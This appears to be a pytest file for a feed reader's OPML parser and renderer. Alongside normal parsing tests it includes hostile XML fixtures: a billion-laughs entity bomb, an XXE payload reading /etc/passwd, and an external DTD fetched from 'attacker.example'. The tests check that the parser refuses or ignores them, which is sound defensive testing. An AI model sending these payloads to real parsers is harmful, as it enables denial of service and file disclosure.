"""OPML import/export, including hostile documents."""

from __future__ import annotations

import pytest

from feeds.opml import OpmlError, OutlineFeed, parse_opml, render_opml

NESTED = b"""<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0">
  <head><title>Watch list</title></head>
  <body>
    <outline text="South Asia">
      <outline text="Dawn" title="Dawn News" type="rss" xmlUrl="https://www.dawn.com/feeds/home"/>
      <outline text="Regional">
        <outline text="Tolo" xmlurl="https://tolonews.com/rss.xml"/>
      </outline>
    </outline>
    <outline text="BBC World" type="rss" xmlUrl="https://feeds.bbci.co.uk/news/world/rss.xml"/>
    <outline text="duplicate" xmlUrl="https://www.dawn.com/feeds/home"/>
    <outline text="not a feed" htmlUrl="https://example.org/"/>
    <outline text="ftp" xmlUrl="ftp://example.org/feed"/>
  </body>
</opml>
"""


def test_nested_outlines_are_flattened() -> None:
    assert parse_opml(NESTED) == [
        OutlineFeed("https://www.dawn.com/feeds/home", "Dawn News"),
        OutlineFeed("https://tolonews.com/rss.xml", "Tolo"),
        OutlineFeed("https://feeds.bbci.co.uk/news/world/rss.xml", "BBC World"),
    ]


def test_round_trip() -> None:
    feeds = [
        OutlineFeed("https://a.example/rss?x=1&y=2", "A & <B> \u201cnews\u201d"),
        OutlineFeed("https://b.example/atom", None),
    ]
    document = render_opml(feeds, title="Ceasewatch feeds")
    assert document.startswith(b"<?xml")
    assert b"Ceasewatch feeds" in document
    parsed = parse_opml(document)
    assert parsed[0] == feeds[0]
    assert parsed[1].url == feeds[1].url
    assert parse_opml(render_opml([], title="empty")) == []


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<opml version="2.0"><body><outline text="&lol4;" xmlUrl="https://x.example/"/></body></opml>
"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<opml version="2.0"><body><outline text="&secret;" xmlUrl="https://x.example/"/></body></opml>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE opml SYSTEM "http://attacker.example/evil.dtd">
<opml version="2.0"><body><outline text="x" xmlUrl="https://x.example/"/></body></opml>
"""


@pytest.mark.parametrize("document", [BILLION_LAUGHS, XXE])
def test_entity_attacks_are_refused(document: bytes) -> None:
    with pytest.raises(OpmlError, match="refused"):
        parse_opml(document)


def test_external_dtd_is_not_fetched() -> None:
    # No network access happens: the DTD is never loaded; the outlines still read.
    assert parse_opml(EXTERNAL_DTD) == [OutlineFeed("https://x.example/", "x")]


@pytest.mark.parametrize(
    ("document", "message"),
    [
        (b"", "well-formed"),
        (b"<opml><body><outline", "well-formed"),
        (b"<rss version='2.0'><channel/></rss>", "root element"),
        (b"<opml version='2.0'><head/></opml>", "no <body>"),
    ],
)
def test_malformed_opml(document: bytes, message: str) -> None:
    with pytest.raises(OpmlError, match=message):
        parse_opml(document)
